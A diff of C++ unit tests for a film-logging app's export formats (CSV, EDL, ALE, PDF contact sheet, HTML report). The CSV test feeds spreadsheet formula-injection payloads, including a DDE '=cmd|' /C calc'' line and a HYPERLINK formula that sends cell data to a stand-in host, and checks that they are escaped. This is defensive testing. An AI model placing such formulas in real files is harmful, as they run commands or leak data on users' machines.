@@ -22,6 +22,28 @@ handover::Options titled(std::string title) {
     return options;
 }
 
+TEST(HandoverCsv, CellsASpreadsheetWouldRunReadAsTyped) {
+    const std::string longRun = "-" + std::string(300, 'x');
+    for (const auto& [comment, cell] : std::initializer_list<std::pair<std::string, std::string>>{
+             {"+1 stop", R"~("=""+1 stop""")~"}, {"-2", R"~("=""-2""")~"},
+             {"@SUM(1)", R"~("=""@SUM(1)""")~"},
+             {"  =cmd|' /C calc'!A0", R"~("=""  =cmd|' /C calc'!A0""")~"},
+             {R"~(=HYPERLINK("http://e.example/?"&A1,"x"))~",
+              R"~("=""=HYPERLINK(""""http://e.example/?""""&A1,""""x"""")""")~"},
+             {"\t=1+1", "'\t=1+1"}, {"\r=1+1", "\"'\r=1+1\""}, {"=1+1\nnext", "\"'=1+1\nnext\""},
+             {longRun, "'" + longRun}, {"a=b, +c", "\"a=b, +c\""},
+             {"say \"hi\"", "\"say \"\"hi\"\"\""}, {"1+1", "1+1"}}) {
+        LogList list = logOf("32", 1);
+        list.replace(LogList::indexOf(1, kFieldComment1), comment);
+        EXPECT_TRUE(has(handover::csv(list, {}), ",00:00:05,09:15:00,05.12.2026," + cell + ",,"))
+            << comment;
+    }
+    LogList list = logOf("32", 1);
+    list.replace(LogList::indexOf(1, kFieldPicture), patternPicture(40));
+    EXPECT_TRUE(has(handover::csv(list, titled("=cmd|' calc'!A0")),
+                    R"~(,"=""=cmd|' calc'!A0_1_1.jpg""")~" "\r\n"));
+}
+
 // Add's blank record at the end, Insert's before take 2; a take at midnight with a stop is one.
 TEST(HandoverEdl, RecordsNobodyTimedAreNoEventsButStayRows) {
     LogList list = logOf("32", 2);
@@ -52,8 +74,7 @@ TEST(HandoverEdl, RecordsNobodyTimedAreNoEventsButStayRows) {
     EXPECT_TRUE(has(handover::ale(logOf("", 1), {}), "\nFPS\t25\n"));
 }
 
-// Every record gets a cell of its own, with its picture or a framed place where a picture is not;
-// a picture in every third record, one that does not decode, a comment longer than a page.
+// A picture in every third record, one that does not decode, a comment longer than a page.
 TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
     LogList list = logOf("32", 40);
     int pictured = 0;
@@ -65,27 +86,46 @@ TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
     fake::PdfCanvas canvas;
     double lastProgress = 0;
     handover::drawContactSheet(list, titled("Day 3"), canvas, [&](double done) {
+        EXPECT_GE(done, lastProgress);
         lastProgress = done;
         return true;
     });
     EXPECT_DOUBLE_EQ(lastProgress, 1.0);
     const int pages = canvas.page + 1;
     ASSERT_GT(pages, 2);
+    std::map<std::string, int> numbers;
     int pictures = 0, placeholders = 0;
+    std::vector<std::string> footers;
     std::vector<fake::PdfCanvas::Call> cells;
     for (const auto& call : canvas.calls) {
+        EXPECT_GE(call.y, 0) << call.text;
+        EXPECT_LE(call.y + call.height, canvas.height - 24) << call.text.substr(0, 40);
+        EXPECT_LE(call.x + call.width, canvas.width - 36 + 0.01);
         if (call.kind == 'f' && call.width > 163)
             cells.push_back(call);
         placeholders += call.kind == 'f' && call.width <= 163;  // where a picture is not
-        pictures += call.kind == 'p';
-        // A comment of a line is drawn whole.
         const auto& cell = cells.empty() ? call : cells.back();
+        if (call.kind == 'p') {
+            ++pictures;
+            EXPECT_EQ(call.page, cell.page);
+            EXPECT_GE(call.x, cell.x);
+            EXPECT_LE(call.y + call.height, cell.y + cell.height);
+        }
+        if (call.kind == 't' && call.text.find("Page ") != std::string::npos)
+            footers.push_back(call.text);
+        if (call.kind == 't' && call.height == 14)
+            ++numbers[call.text];
+        // A comment of a line is drawn whole and ends its cell, a padding above the frame; with
+        // no second comment, no empty line below it.
         if (call.kind == 't' && call.text.starts_with("take ") && cell.height < 300) {
             EXPECT_EQ(call.text.find('\n'), std::string::npos) << call.text;
+            EXPECT_NEAR(call.y + call.height + 4, cell.y + cell.height, 0.01) << call.text;
+            EXPECT_EQ(call.height, canvas.textHeight(call.text, call.width, {}, 1e9) + 4);
         }
     }
     EXPECT_EQ(pictures, pictured);
     EXPECT_EQ(placeholders, 40 - pictures) << "the bad picture's place framed too";
+    for (int n = 1; n <= 40; ++n) EXPECT_EQ(numbers[std::to_string(n)], 1) << n;
     ASSERT_EQ(cells.size(), 40u);
     for (std::size_t a = 0; a < cells.size(); ++a)
         for (std::size_t b = a + 1; b < cells.size(); ++b)
@@ -95,6 +135,13 @@ TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
                         cells[a].y + cells[a].height < cells[b].y ||
                         cells[b].y + cells[b].height < cells[a].y)
                 << "cells " << a << " and " << b << " overlap";
+    ASSERT_EQ(static_cast<int>(footers.size()), pages);
+    for (int page = 0; page < pages; ++page)
+        EXPECT_EQ(footers[static_cast<std::size_t>(page)],
+                  "Day 3    Page " + std::to_string(page + 1) + " of " + std::to_string(pages));
+    EXPECT_EQ(canvas.calls.front().text, "Day 3");
+    EXPECT_GE(canvas.calls[1].y, canvas.calls[0].y + canvas.calls[0].height) << "below the title";
+    EXPECT_EQ(canvas.calls[1].text, "Date: 05.12.2026    Frame rate: 25 fps    Records: 40");
 }
 
 using Command = void (vexaLogging3AppDelegate::*)();
@@ -121,8 +168,7 @@ struct Exported {
     }
 };
 
-// A take the interface logs meanwhile is in the log at once, not in the file; a cancelled
-// export leaves no file behind.
+// A take the interface logs meanwhile is in the log at once, not in the file.
 TEST(ExportCommands, TakesGoOnIntoTheLogAndACancelLeavesNoFile) {
     Exported e;
     e.a.app->logStartArray.replace(LogList::indexOf(1, kFieldComment1), std::string("<b>"));
@@ -144,18 +190,18 @@ TEST(ExportCommands, TakesGoOnIntoTheLogAndACancelLeavesNoFile) {
              {&D::exportEdl, "old.edl"}, {&D::exportCsv, "old.csv"}, {&D::exportAle, "old.ale"},
              {&D::exportContactSheet, "old.pdf"}, {&D::exportReport, "old.html"}}) {
         writeFile(e.folder.file(name), "old");
-        e.run(command, name);
+        EXPECT_EQ(e.run(command, name), "old") << name;
     }
     EXPECT_EQ(e.folder.entries(), 6u);
     EXPECT_TRUE(e.dialogs.alerts.empty());
 }
 
-// Why a file was not written is told and the old one kept; a project file chosen by mistake gets
-// the export beside it.
 TEST(ExportCommands, TellWhyAFileWasNotWrittenAndKeepTheOldOne) {
     Exported e;
     e.run(&D::exportAle, "missing/day.ale");
     EXPECT_EQ(e.dialogs.offered, std::vector<std::string>{"Day 4"}) << "the ALE's reel";
+    ASSERT_EQ(e.dialogs.alerts.size(), 1u);
+    EXPECT_TRUE(has(e.dialogs.alerts[0].message, "could not be written"));
     writeFile(e.folder.file("old.pdf"), "old");
     e.a.pdfWriter.failWith = "the printer ran dry";
     EXPECT_EQ(e.run(&D::exportContactSheet, "old.pdf"), "old");
@@ -164,18 +210,20 @@ TEST(ExportCommands, TellWhyAFileWasNotWrittenAndKeepTheOldOne) {
     EXPECT_EQ(handover::writeExport(handover::Format::Pdf, e.a.app->logStartArray, {},
                                     e.folder.file("none.pdf"), {}),
               "no PDF writer is available");
+    EXPECT_EQ(e.folder.entries(), 1u);
+    // The project file chosen by mistake gets a file beside it, never the export's bytes.
     writeFile(e.folder.file("Day 4.vlg"), "project");
-    e.run(&D::exportReport, "Day 4.vlg");
+    EXPECT_EQ(e.run(&D::exportReport, "Day 4.vlg"), "project");
     EXPECT_TRUE(has(fileText(e.folder.file("Day 4.vlg.html")), "<h1>Day 4</h1>"));
     // An untitled log's reel is asked each time: the next untitled log is another source.
     e.a.app->setPathString("Untitled");
     e.run(&D::exportEdl, "a.edl");
     e.run(&D::exportEdl, "b.edl");
     EXPECT_EQ(e.dialogs.offered.size(), 3u);
-    // In full screen an export waits, no file dialog; an untitled log is offered as Untitled.
     e.a.app->fullScreenMode = 1;
     e.run(&D::exportEdl, "full");
     ASSERT_EQ(e.dialogs.saveDialogs.size(), 5u);
+    EXPECT_TRUE(e.dialogs.saveDialogs[0].starts_with("Day 4.ale in "));
     EXPECT_TRUE(e.dialogs.saveDialogs[4].starts_with("Untitled.edl in "));
 }
 
